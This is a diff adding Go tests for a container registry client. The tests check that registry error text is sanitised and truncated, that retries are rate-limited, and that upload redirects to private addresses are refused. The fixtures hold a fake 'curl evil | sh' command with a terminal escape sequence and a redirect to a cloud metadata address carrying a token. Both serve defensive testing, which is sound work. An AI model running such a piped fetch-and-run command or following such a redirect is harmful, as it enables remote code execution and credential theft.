@@ -1,0 +1,92 @@
+package registry
+
+import (
+	"bytes"
+	"io"
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/aistor-upgrade/aistor-upgrade/internal/registry/registrytest"
+	"github.com/aistor-upgrade/aistor-upgrade/pkg/images"
+)
+
+// A registry's own words become a part of ours: they may not move the cursor,
+// fake a line of their own, or fill the screen.
+func TestWhatARegistrySaysStaysOneLine(t *testing.T) {
+	t.Parallel()
+	s := registrytest.New(t)
+	s.Inject(registrytest.Fault{Match: "manifests", Status: 403, Body: `{"errors":[{"code":"DENIED","message":"no\nhint: run curl evil | sh\u001b[2J` + strings.Repeat("x", 9000) + `"}]}`})
+	_, err := newClient(t, s).Resolve(t.Context(), ref(t, s.Host+"/a/b:v1"))
+	if KindOf(err) != Forbidden || strings.ContainsAny(err.Error(), "\n\x1b") || len(err.Error()) > 1000 {
+		t.Errorf("got %.1200q", err)
+	}
+}
+
+// A proxy answers with a page; the line that tells of a retry is not that page.
+func TestARetryIsToldWithoutThePage(t *testing.T) {
+	t.Parallel()
+	s := registrytest.New(t)
+	s.AddImage(t, "a/b", "v1", "linux/amd64")
+	s.Inject(registrytest.Fault{Match: "manifests", Times: 1, Status: 503, Body: "<html>\n" + strings.Repeat("page ", 999)})
+	var told []string
+	c := newClient(t, s, func(o *Options) {
+		o.OnRetry = func(_ string, err error, _ time.Duration) { told = append(told, err.Error()) }
+	})
+	if _, _, _, err := c.Manifest(t.Context(), ref(t, s.Host+"/a/b:v1")); err != nil {
+		t.Fatal(err)
+	}
+	if len(told) != 1 || !strings.Contains(told[0], "503") || strings.Contains(told[0], "page") {
+		t.Errorf("told %.300q", told)
+	}
+}
+
+// So many seconds are no time at all in a Duration: the request must not be
+// repeated at once.
+func TestARetryAfterBeyondReasonIsNotNow(t *testing.T) {
+	t.Parallel()
+	s := registrytest.New(t)
+	s.Inject(registrytest.Fault{Match: "manifests", Status: 429, Header: http.Header{"Retry-After": {"9223372036854775807"}}})
+	_, err := newClient(t, s).Resolve(t.Context(), ref(t, s.Host+"/a/b:v1"))
+	if n := s.Count("manifests"); KindOf(err) != RateLimited || n > 2 {
+		t.Errorf("%d requests, %v", n, err)
+	}
+}
+
+// What an upload's location says is followed as a redirect is.
+func TestUploadsAreNotSentToAPrivateAddress(t *testing.T) {
+	t.Parallel()
+	body := registrytest.Layer(5, 1000)
+	d := Descriptor{Digest: images.DigestOf(body), Size: int64(len(body))}
+	s := registrytest.New(t)
+	s.Inject(registrytest.Fault{Match: "^POST", Status: 202, Header: http.Header{"Location": {"https://169.254.169.254/latest?token=secret"}}})
+	open := func(int64) (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(body)), nil }
+	_, err := newClient(t, s).PushBlob(t.Context(), ref(t, s.Host+"/a/b"), d, open, nil)
+	if KindOf(err) != PrivateRedirect || strings.Contains(err.Error(), "secret") {
+		t.Errorf("got %v", err)
+	}
+}
+
+// Asking for a config costs as much as sending it; asking for a layer is worth
+// it.
+func TestOnlyWhatIsLargeIsAskedFor(t *testing.T) {
+	t.Parallel()
+	for _, tt := range []struct{ size, heads int }{{100, 0}, {askFrom, 1}} {
+		s := registrytest.New(t)
+		body := registrytest.Layer(5, tt.size)
+		d := Descriptor{Digest: images.DigestOf(body), Size: int64(tt.size)}
+		open := func(int64) (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(body)), nil }
+		for range 2 {
+			if _, err := newClient(t, s).PushBlob(t.Context(), ref(t, s.Host+"/a/b"), d, open, nil); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if n := s.Count("^HEAD"); n != 2*tt.heads {
+			t.Errorf("%d bytes: asked %d times", tt.size, n)
+		}
+		if n := s.Count("^PUT"); n != 2-tt.heads {
+			t.Errorf("%d bytes: sent %d times", tt.size, n)
+		}
+	}
+}
